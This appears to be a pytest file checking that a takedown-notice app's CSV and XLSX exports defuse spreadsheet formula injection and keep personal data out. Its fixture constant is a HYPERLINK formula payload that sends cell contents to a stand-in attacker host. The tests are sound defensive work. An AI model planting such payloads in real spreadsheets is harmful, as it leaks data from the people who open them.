import csv
import io

from openpyxl import load_workbook

from takedown.cases.models import Notice
from takedown.reports.exports import escape_cell, notice_rows, to_csv, to_xlsx
from tests.followup import factories

MALICIOUS = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def test_escape_cell_defuses_every_formula_start():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert escape_cell(start + "1+1") == "'" + start + "1+1"
    assert escape_cell("reddit") == "reddit"
    assert escape_cell(None) == ""
    assert escape_cell(48) == "48"


def malicious_notice(org, worker):
    case = factories.person_case(org, assignee=worker)
    target = factories.matched_target(case, url="https://x.com/a/status/1")
    notice = factories.sent_notice(case, [target])
    notice.reference = MALICIOUS
    notice.save()
    return notice


def test_csv_keeps_a_malicious_reference_as_text(org, worker):
    malicious_notice(org, worker)
    content = to_csv(notice_rows(Notice.objects.all())).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content)))
    assert rows[0][0] == "Case"
    reference_column = rows[0].index("Platform's reference")
    assert rows[1][reference_column] == "'" + MALICIOUS
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_xlsx_stores_a_malicious_reference_as_a_string_not_a_formula(org, worker):
    notice = malicious_notice(org, worker)
    workbook = load_workbook(io.BytesIO(to_xlsx(notice_rows(Notice.objects.all()))))
    sheet = workbook["Notices"]
    values = [cell.value for cell in sheet[2]]
    assert values[0] == notice.case.reference
    assert "'" + MALICIOUS in values
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_rows_hold_no_personal_data(org, worker):
    malicious_notice(org, worker)
    flat = " ".join(" ".join(row) for row in notice_rows(Notice.objects.all()))
    assert "Alex" not in flat and "alex@example.org" not in flat
    assert "https://x.com/a/status/1" in flat


def test_xlsx_is_built_without_temporary_files(org, worker, tmp_path, monkeypatch):
    import os
    import tempfile

    malicious_notice(org, worker)
    private = tmp_path / "tmp"
    private.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(private))
    assert to_xlsx(notice_rows(Notice.objects.all())).startswith(b"PK")
    assert os.listdir(private) == []
